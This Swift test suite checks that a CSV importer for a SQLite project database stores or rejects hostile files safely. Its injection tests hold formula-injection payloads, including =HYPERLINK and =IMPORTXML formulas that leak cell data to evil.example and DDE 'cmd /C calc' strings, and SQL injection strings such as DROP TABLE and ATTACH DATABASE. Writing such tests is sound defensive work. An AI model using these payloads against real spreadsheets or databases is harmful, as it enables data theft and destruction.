import CSV
import Foundation
import SQLite
import Stocktaking
import Testing
import TestSupport

/// Hostile inputs (`Fixtures/hostile/`, plus large files generated here): each is imported in
/// process into a database that already holds one project, and either imports exactly — free text
/// byte for byte, the schema intact — or is rejected with a problem naming its line and column,
/// the database byte-for-byte unchanged. Nothing may crash, take more than a few seconds, or echo
/// megabytes back in its message.
@Suite struct HostileInputTests {
    /// Small inputs take well under 0.2 s in a debug build; the bound only catches a hang.
    static let quick: Duration = TimeAllowance.bound(expected: .milliseconds(200))
    /// Generated inputs of several MiB take up to about 1 s in a debug build (copies of every byte).
    static let large: Duration = TimeAllowance.bound(expected: .seconds(1))
    /// The longest message an import may produce, whatever the input.
    static let messageLimit = 10_000

    // MARK: - Helpers

    /// A migrated database holding one project (`KEEP-1`), so "unchanged" means something.
    private func seededFixture() throws -> ImportFixture {
        let fixture = try ImportFixture()
        try fixture.importText(Sample.file(Sample.row("KEEP-1")))
        return fixture
    }

    private func hostile(_ name: String) -> String {
        Fixtures.url("hostile/" + name).path
    }

    private func schema(_ fixture: ImportFixture) throws -> [String?] {
        try fixture.read { try $0.database.column("SELECT type || ' ' || name FROM sqlite_master ORDER BY type, name") }
    }

    /// Imports `path`, expects a rejection within `limit`, a short message and an unchanged database.
    private func expectRejection(
        _ fixture: ImportFixture, _ path: String, options: ImportOptions = ImportOptions(), within limit: Duration = quick,
        sourceLocation: SourceLocation = #_sourceLocation
    ) throws -> ImportRejected {
        let before = fixture.snapshot()
        let started = ContinuousClock.now
        let error = try #require(throws: ImportRejected.self, sourceLocation: sourceLocation) {
            try fixture.importFile(path, options: options)
        }
        let elapsed = ContinuousClock.now - started
        #expect(elapsed < limit, "took \(elapsed)", sourceLocation: sourceLocation)
        #expect(error.description.utf8.count < Self.messageLimit, "a \(error.description.utf8.count)-byte message", sourceLocation: sourceLocation)
        #expect(fixture.snapshot() == before, "the database changed", sourceLocation: sourceLocation)
        return error
    }

    /// Expects a problem on `line` in `column` (nil: the whole row or file) whose text contains `text`.
    private func expectProblem(
        _ error: ImportRejected, line: Int, column: String?, _ text: String, sourceLocation: SourceLocation = #_sourceLocation
    ) {
        let found = error.problems.contains { $0.line == line && $0.column == column && $0.description.contains(text) }
        #expect(found, "no problem at line \(line), column \(column ?? "-") containing \"\(text)\" in \(error.problems.map(\.description))",
                sourceLocation: sourceLocation)
    }

    /// Imports `path`, expects success within `limit`, the schema intact and the database sound.
    @discardableResult
    private func expectImport(
        _ fixture: ImportFixture, _ path: String, options: ImportOptions = ImportOptions(), within limit: Duration = quick,
        sourceLocation: SourceLocation = #_sourceLocation
    ) throws -> ImportSummary {
        let tables = try schema(fixture)
        let started = ContinuousClock.now
        let summary = try fixture.importFile(path, options: options)
        let elapsed = ContinuousClock.now - started
        #expect(elapsed < limit, "took \(elapsed)", sourceLocation: sourceLocation)
        #expect(try schema(fixture) == tables, "the schema changed", sourceLocation: sourceLocation)
        #expect(try fixture.scalarText("PRAGMA integrity_check") == "ok", sourceLocation: sourceLocation)
        return summary
    }

    private func stored(_ fixture: ImportFixture, _ column: String, id: String) throws -> String? {
        try fixture.scalarText("SELECT \(column) FROM project WHERE external_id = ?", [.text(id)])
    }

    /// Writes `bytes` into the fixture's directory and returns the path.
    private func write(_ bytes: [UInt8], to name: String, in fixture: ImportFixture) throws -> String {
        let path = fixture.database.directory.path(name)
        try Data(bytes).write(to: URL(fileURLWithPath: path))
        return path
    }

    /// A projects file: the canonical header, then `rows` (already CSV text), CRLF line ends.
    private func projectsFile(_ rows: [String]) -> [UInt8] {
        Array((([Sample.header] + rows).joined(separator: "\r\n") + "\r\n").utf8)
    }

    // MARK: - Encodings and bytes

    @Test func binaryGarbageIsRejectedOnLineOne() throws {
        let fixture = try seededFixture()
        let error = try expectRejection(fixture, hostile("binary-png.csv"))
        expectProblem(error, line: 1, column: "#1", "invalid UTF-8 at byte 1")
        #expect(error.totalProblems == 1)
    }

    @Test(arguments: [("utf16le-no-bom.csv", TextEncoding.utf16LE), ("utf16be-no-bom.csv", TextEncoding.utf16BE)])
    func utf16WithoutABOMIsANulByteErrorThatNamesTheEncoding(_ file: String, _ encoding: TextEncoding) throws {
        let fixture = try seededFixture()
        let error = try expectRejection(fixture, hostile(file))
        expectProblem(error, line: 1, column: "#1", "NUL byte")
        expectProblem(error, line: 1, column: "#1", "--encoding utf-16")

        // Read with the encoding it needs, the same file imports exactly.
        var options = ImportOptions()
        options.reader.encoding = encoding
        try expectImport(fixture, hostile(file), options: options)
        #expect(try stored(fixture, "title", id: "U16-1") == "Télémédecine rurale")
    }

    @Test func aLoneUTF16SurrogateIsRejectedWithItsLineAndColumn() throws {
        let fixture = try seededFixture()
        var options = ImportOptions()
        options.reader.encoding = .utf16LE
        let error = try expectRejection(fixture, hostile("utf16le-lone-surrogate.csv"), options: options)
        expectProblem(error, line: 2, column: "title", "invalid UTF-16")

        options.reader.replaceInvalid = true
        try expectImport(fixture, hostile("utf16le-lone-surrogate.csv"), options: options)
        #expect(try stored(fixture, "title", id: "U16-2") == "A\u{FFFD}")
    }

    @Test(arguments: [("overlong-utf8.csv", "title", "OV-2", [0x41, 0xC0, 0xAF, 0x42] as [UInt8]),
                      ("surrogate-utf8.csv", "description", "SU-2", [0x58, 0xED, 0xA0, 0x80, 0x59])])
    func invalidUTF8FormsAreRejectedOrReplaced(_ file: String, _ column: String, _ id: String, _ bytes: [UInt8]) throws {
        let fixture = try seededFixture()
        let error = try expectRejection(fixture, hostile(file))
        expectProblem(error, line: 3, column: column, "invalid UTF-8 at byte 2")
        #expect(error.totalProblems == 1)

        var options = ImportOptions()
        options.reader.replaceInvalid = true
        let summary = try expectImport(fixture, hostile(file), options: options)
        #expect(summary.counts.inserted == 2)
        #expect(summary.warnings == 1)
        // Each maximal invalid subpart becomes one U+FFFD, as the standard library decodes it.
        #expect(try stored(fixture, column, id: id) == String(decoding: bytes, as: UTF8.self))
        #expect(try stored(fixture, column, id: id)?.contains("/") == false)  // C0 AF is never "/"
    }

    @Test func aFileThatIsOnlyABOMNeedsAHeader() throws {
        let fixture = try seededFixture()
        let error = try expectRejection(fixture, hostile("only-bom.csv"))
        expectProblem(error, line: 1, column: nil, "header row is required")
    }

    @Test func controlCharactersInFreeTextAreStoredExactly() throws {
        let fixture = try seededFixture()
        try expectImport(fixture, hostile("control-characters.csv"))
        let controls = String(String.UnicodeScalarView((1..<32).filter { $0 != 10 && $0 != 13 }.map { Unicode.Scalar(UInt8($0)) }))
        #expect(try stored(fixture, "title", id: "CTL-1") == "Bell\u{07} and escape \u{1B}[31mred\u{1B}[0m")
        #expect(try stored(fixture, "description", id: "CTL-1")
            == "C0:" + controls + ";DEL:\u{7F};C1:\u{80}\u{85}\u{9F};LS:\u{2028};PS:\u{2029}")
        #expect(try stored(fixture, "title", id: "CTL-2") == "Title\u{0B}with\u{0C}vertical\u{08}tab")
        #expect(try stored(fixture, "description", id: "CTL-2") == "\u{1B}]0;window title\u{07}")
    }

    @Test func escapeSequencesInARejectedValueAreNotEchoedRaw() throws {
        let fixture = try seededFixture()
        let error = try expectRejection(fixture, hostile("escape-in-bad-value.csv"))
        expectProblem(error, line: 2, column: "action_lines", "no such Action Line")
        // A message printed to a terminal must not carry the file's escape sequences (ESC, BEL).
        let raw = error.description.unicodeScalars.filter { $0.value < 0x20 && $0 != "\n" }
        #expect(raw.isEmpty, "raw control characters \(raw.map { String($0.value, radix: 16) }) in \(error.description.debugDescription)")
    }

    // MARK: - Structure

    @Test func aHeaderOfEmptyNamesIsRejectedBeforeAnyRow() throws {
        let fixture = try seededFixture()
        let error = try expectRejection(fixture, hostile("empty-header-names.csv"))
        expectProblem(error, line: 1, column: nil, "4 column(s) have an empty name")
        expectProblem(error, line: 1, column: nil, "missing required column external_id")
    }

    @Test func onlyAHeaderImportsNothing() throws {
        let fixture = try seededFixture()
        let summary = try expectImport(fixture, hostile("only-header.csv"))
        #expect(summary.rows == 0)
        #expect(summary.counts == BatchRepository.Counts())
        #expect(try fixture.count("project") == 1)
    }

    @Test func crOnlyLineEndsImportWithLineBreaksInsideFieldsKept() throws {
        let fixture = try seededFixture()
        let summary = try expectImport(fixture, hostile("cr-only.csv"))
        #expect(summary.counts.inserted == 2)
        #expect(try stored(fixture, "description", id: "CR-1") == "one\rtwo")
        #expect(try stored(fixture, "description", id: "CR-2") == "three\r\nfour")
    }

    @Test func aQuoteOpenedAtTheEndOfTheFileIsUnterminated() throws {
        let fixture = try seededFixture()
        let error = try expectRejection(fixture, hostile("quote-at-eof.csv"))
        expectProblem(error, line: 3, column: "title", "opened on line 3 is never closed")
    }

    @Test func aThousandDoubledQuotesAreAThousandQuotes() throws {
        let fixture = try seededFixture()
        try expectImport(fixture, hostile("repeated-quotes.csv"))
        #expect(try stored(fixture, "description", id: "RQ-1") == String(repeating: "\"", count: 1000))
    }

    @Test func textAfterALongRunOfQuotesIsRejectedWithAShortExcerpt() throws {
        let fixture = try seededFixture()
        let error = try expectRejection(fixture, hostile("repeated-quotes-unbalanced.csv"))
        expectProblem(error, line: 3, column: "description", "text follows the closing quote")
        #expect(error.description.utf8.count < 1_000)
    }

    @Test func mixedLineEndsKeepLineNumbersAndInnerBreaks() throws {
        let fixture = try seededFixture()
        try expectImport(fixture, hostile("mixed-line-endings.csv"))
        #expect(try stored(fixture, "description", id: "MX-1") == "a\nb")
        #expect(try stored(fixture, "description", id: "MX-2") == "c\r\nd")
        #expect(try stored(fixture, "description", id: "MX-4") == "e\rf")

        // Physical lines: header 1, MX-1 2–3, MX-2 4–5, MX-3 6, MX-4 7–8, MX-5 9.
        let error = try expectRejection(fixture, hostile("mixed-line-endings-bad.csv"))
        expectProblem(error, line: 9, column: "action_lines", "no such Action Line C99")
        #expect(error.totalProblems == 1)
    }

    @Test func aSemicolonFileReadWithCommasIsOneUnknownColumn() throws {
        let fixture = try seededFixture()
        let error = try expectRejection(fixture, hostile("wrong-delimiter.csv"))
        expectProblem(error, line: 1, column: nil, "unknown column(s) \"external_id;title;description;organizati…\"")
        expectProblem(error, line: 1, column: nil, "missing required column title")
    }

    // MARK: - Values that must stay data

    @Test func formulaInjectionIsStoredAsTextExactly() throws {
        let fixture = try seededFixture()
        let summary = try expectImport(fixture, hostile("formula-injection.csv"))
        #expect(summary.counts.inserted == 2)
        #expect(try stored(fixture, "title", id: "F-1") == "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click me\")")
        #expect(try stored(fixture, "description", id: "F-1") == "+cmd|' /C calc'!A0")
        #expect(try stored(fixture, "organization_name", id: "F-1") == "@SUM(1+1)*cmd|' /C calc'!A0")
        #expect(try stored(fixture, "partners", id: "F-1") == "-2+3+cmd|' /C notepad'!'A1'")
        #expect(try stored(fixture, "title", id: "=1+1") == "=1+1")
        #expect(try stored(fixture, "description", id: "=1+1") == "\t=1+1")
        #expect(try stored(fixture, "partners", id: "=1+1") == "=IMPORTXML(CONCAT(\"http://evil.example/?\",A2),\"//a\")")
    }

    @Test func sqlLookingValuesAreStoredAsTextAndTheTablesSurvive() throws {
        let fixture = try seededFixture()
        let summary = try expectImport(fixture, hostile("sql-injection.csv"))
        #expect(summary.counts.inserted == 2)
        #expect(try fixture.count("project") == 3)
        let id = "S-1'; DROP TABLE project;--"
        #expect(try stored(fixture, "title", id: id) == "'); DROP TABLE project;--")
        #expect(try stored(fixture, "description", id: id) == "Robert'); DROP TABLE students;--")
        #expect(try stored(fixture, "organization_name", id: id) == "\" OR 1=1 --")
        #expect(try stored(fixture, "partners", id: id) == "1; ATTACH DATABASE '/tmp/pwned.db' AS pwned; --")
        #expect(try stored(fixture, "title", id: "S-2") == "x' UNION SELECT sql FROM sqlite_master --")
        #expect(try stored(fixture, "description", id: "S-2") == "%' AND 1=0; PRAGMA writable_schema=1; --")
        #expect(try stored(fixture, "organization_name", id: "S-2") == "'; DELETE FROM organization; --")
        #expect(try fixture.count("organization") >= 2)
        #expect(!FileManager.default.fileExists(atPath: "/tmp/pwned.db"))
    }

    @Test func numericLookingTextStaysText() throws {
        let fixture = try seededFixture()
        try expectImport(fixture, hostile("numeric-looking-text.csv"))
        let row = try #require(try fixture.rows(
            "SELECT title, typeof(title), description, organization_name, partners FROM project WHERE external_id = '0001'").first)
        #expect(row.map(\.textValue) == ["0001", "text", "1e5", "NULL", "2024-01-01"])
        let other = try #require(try fixture.rows(
            "SELECT title, description, organization_name, partners FROM project WHERE external_id = '1.0'").first)
        #expect(other.map(\.textValue) == ["-0", "TRUE", "0x1F", "  42  "])
    }

    @Test func astralCharactersAndStackedCombiningMarksAreStoredExactly() throws {
        let fixture = try seededFixture()
        try expectImport(fixture, hostile("unicode-extremes.csv"))
        #expect(try stored(fixture, "title", id: "UX-1") == "\u{1F469}\u{200D}\u{1F4BB} \u{1F1F0}\u{1F1EA} \u{1D54F}")
        #expect(try stored(fixture, "description", id: "UX-1") == "Z" + String(repeating: "\u{0336}\u{0337}\u{0338}", count: 300))
    }

    @Test func invisibleCharactersAreRefusedInIdsAndKeptInText() throws {
        let fixture = try seededFixture()
        let error = try expectRejection(fixture, hostile("zero-width-rtl.csv"))
        // Ids that would print the same as another are refused; the plain row alone was fine.
        for line in 3...6 {
            expectProblem(error, line: line, column: "external_id", "external_id contains an invisible character")
        }
        #expect(error.totalProblems == 4)
        var options = ImportOptions()
        options.skipInvalid = true
        let summary = try expectImport(fixture, hostile("zero-width-rtl.csv"), options: options)
        #expect(summary.counts.inserted == 1)
        #expect(try stored(fixture, "title", id: "Z-1") == "Plain")
    }

    @Test func invisibleCharactersInFreeTextAreStoredExactly() throws {
        let fixture = try seededFixture()
        try fixture.importText(Sample.file(
            Sample.row("Z-2", title: "Zero\u{200B}width"), Sample.row("Z-3", title: "\u{202E}Right-to-left override\u{202C}")))
        #expect(try stored(fixture, "title", id: "Z-2") == "Zero\u{200B}width")
        #expect(try stored(fixture, "title", id: "Z-3") == "\u{202E}Right-to-left override\u{202C}")
    }

    @Test func anIDInNFCAndNFDIsOneIDTwice() throws {
        let fixture = try seededFixture()
        let error = try expectRejection(fixture, hostile("nfc-nfd-duplicate.csv"))
        expectProblem(error, line: 3, column: "external_id", "appears twice in the file (first on line 2)")
    }

    @Test func hugeNumbersAreRejectedPerCellWithShortMessages() throws {
        let fixture = try seededFixture()
        let error = try expectRejection(fixture, hostile("huge-numbers.csv"))
        let nines = String(repeating: "9", count: 25)
        expectProblem(error, line: 2, column: "sdgs", "no such SDG")
        expectProblem(error, line: 3, column: "action_lines", "no such Action Line")
        expectProblem(error, line: 4, column: "start_date", "not a date")
        expectProblem(error, line: 5, column: "gdc_objectives", "no such Global Digital Compact objective")
        expectProblem(error, line: 6, column: "start_date", "not a date")
        expectProblem(error, line: 7, column: "start_date", "ambiguous date")
        #expect(error.totalProblems == 6)
        // The number is named as written, not as an overflowed integer.
        let actionLine = try #require(error.problems.first { $0.column == "action_lines" })
        #expect(actionLine.problem == "no such Action Line C" + nines, "\(actionLine.problem)")
    }

    @Test func aHugePrizeYearIsRejected() throws {
        let fixture = try seededFixture()
        var options = ImportOptions()
        options.kind = .prizes
        let error = try expectRejection(fixture, hostile("huge-prize-year.csv"), options: options)
        expectProblem(error, line: 2, column: "year", "not a WSIS Prize year")
    }

    // MARK: - Size (generated at run time)

    @Test func aHundredThousandColumnHeaderIsRejectedQuickly() throws {
        let fixture = try seededFixture()
        let header = (0..<100_000).map { "c\($0)" }.joined(separator: ",")
        let path = try write(Array((header + "\r\n").utf8), to: "wide.csv", in: fixture)
        let error = try expectRejection(fixture, path)
        expectProblem(error, line: 1, column: nil, "and 99990 more")
        #expect(error.description.utf8.count < 2_000)
    }

    @Test func aRowOfAHundredThousandFieldsIsOneShortProblem() throws {
        let fixture = try seededFixture()
        let wide = Sample.row("W-1") + String(repeating: ",x", count: 100_000 - 18)
        let path = try write(projectsFile([wide]), to: "wide-row.csv", in: fixture)
        let error = try expectRejection(fixture, path)
        expectProblem(error, line: 2, column: nil, "the row has 100000 fields but the header has 18")
        #expect(error.totalProblems == 1)
    }

    @Test func aTenMiBFieldImportsExactly() throws {
        let fixture = try seededFixture()
        // Words, commas, quotes and line breaks: a quoted field of exactly 10 MiB once unescaped.
        var unit = Array("lorem ipsum, \"dolor\"\r\nsit amet ".utf8)
        unit += Array(repeating: UInt8(ascii: "x"), count: 64 - unit.count)
        let value = String(decoding: Array(repeating: unit, count: (10 << 20) / unit.count).joined(), as: UTF8.self)
        #expect(value.utf8.count == 10 << 20)
        var writer: [UInt8] = []
        CSVWriter().append(record: ["BIG-1", "Big", value, "Org", "", "KE", "", "", "", "", "", "", "", "", "C5", "", "", ""], to: &writer)
        let path = try write(Array((Sample.header + "\r\n").utf8) + writer, to: "ten-mib.csv", in: fixture)
        try expectImport(fixture, path, within: Self.large)
        let stored = try #require(try stored(fixture, "description", id: "BIG-1"))
        #expect(stored.utf8.count == value.utf8.count)
        #expect(stored == value)
    }

    @Test func aFieldOverTheLimitIsRejectedWithoutEchoingIt() throws {
        let fixture = try seededFixture()
        let value = String(repeating: "y", count: (16 << 20) + 1)
        let path = try write(projectsFile([Sample.row("BIG-2", description: value)]), to: "over-limit.csv", in: fixture)
        let error = try expectRejection(fixture, path, within: Self.large)
        expectProblem(error, line: 2, column: "description", "larger than 16 MiB")
        #expect(error.description.utf8.count < 1_000)
    }

    @Test func aFourMiBFileWithoutALineEndIsOneHugeUnknownColumn() throws {
        let fixture = try seededFixture()
        let path = try write(Array(repeating: UInt8(ascii: "h"), count: 4 << 20), to: "one-line.csv", in: fixture)
        let error = try expectRejection(fixture, path, within: Self.large)
        expectProblem(error, line: 1, column: nil, "unknown column(s)")
        #expect(error.description.utf8.count < 2_000)
    }

    @Test func aFourMiBLastLineWithoutALineEndImportsExactly() throws {
        let fixture = try seededFixture()
        let title = String(repeating: "t", count: 4 << 20)
        var bytes = Array((Sample.header + "\r\n").utf8)
        bytes += Array(Sample.row("LONG-1", title: title).utf8)  // no line end after the last record
        let path = try write(bytes, to: "long-line.csv", in: fixture)
        try expectImport(fixture, path, within: Self.large)
        #expect(try stored(fixture, "title", id: "LONG-1") == title)
    }

    @Test func manyRowsOfOneFieldAreCountedNotListed() throws {
        let fixture = try seededFixture()
        var bytes = Array((Sample.header + "\r\n").utf8)
        for i in 0..<100_000 { bytes += Array("x\(i)\n".utf8) }
        let path = try write(bytes, to: "one-field-rows.csv", in: fixture)
        let error = try expectRejection(fixture, path, within: Self.large)
        #expect(error.totalProblems == 100_000)
        #expect(error.problems.count <= 20)
        expectProblem(error, line: 2, column: nil, "the row has 1 fields but the header has 18")
        #expect(error.description.contains("and 99980 more problem(s)"))
    }

    @Test func aMegabyteListCellIsRejectedQuicklyWithAShortMessage() throws {
        let fixture = try seededFixture()
        // One item of 1 MiB in each matched list column: no suggestion search may go quadratic.
        let item = String(repeating: "z", count: 1 << 20)
        let row = "L-1,T,d,o,Government,\(item),national,ongoing,2020-01-01,,,,,Project,\(item),\(item),\(item),2024-05-01"
        let path = try write(projectsFile([row]), to: "big-list-item.csv", in: fixture)
        let error = try expectRejection(fixture, path, within: Self.large)
        expectProblem(error, line: 2, column: "action_lines", "no such Action Line")
        expectProblem(error, line: 2, column: "countries", "no such country")
        expectProblem(error, line: 2, column: "sdgs", "no such SDG")
        #expect(error.description.utf8.count < 5_000)
    }

    @Test func aMegabyteNumberIsNotEchoedBack() throws {
        let fixture = try seededFixture()
        let digits = String(repeating: "7", count: 1 << 20)
        let path = try write(
            projectsFile([Sample.row("N-1", actionLines: "C5;C" + digits), Sample.row("N-2", actionLines: "C7 " + digits)]),
            to: "big-number.csv", in: fixture)
        let fixtureError = try expectRejection(fixture, path, within: Self.large)
        expectProblem(fixtureError, line: 2, column: "action_lines", "no such Action Line")
        expectProblem(fixtureError, line: 3, column: "action_lines", "is not one of the C7 applications")
        var sdgRow = Sample.row("N-3").split(separator: ",", omittingEmptySubsequences: false).map(String.init)
        sdgRow[15] = digits
        let sdgPath = try write(projectsFile([sdgRow.joined(separator: ",")]), to: "big-sdg.csv", in: fixture)
        let sdgError = try expectRejection(fixture, sdgPath, within: Self.large)
        expectProblem(sdgError, line: 2, column: "sdgs", "no such SDG")
        #expect(sdgError.description.utf8.count < 2_000)
        #expect(fixtureError.description.utf8.count < 2_000)
    }

    @Test func aListOfHalfAMillionBadItemsIsCountedNotListed() throws {
        let fixture = try seededFixture()
        let items = String(repeating: "x;", count: 500_000)
        let path = try write(projectsFile([Sample.row("M-1", actionLines: items)]), to: "many-items.csv", in: fixture)
        let error = try expectRejection(fixture, path, within: Self.large)
        expectProblem(error, line: 2, column: "action_lines", "no such Action Line")
        #expect(error.problems.count <= 20)
    }
}
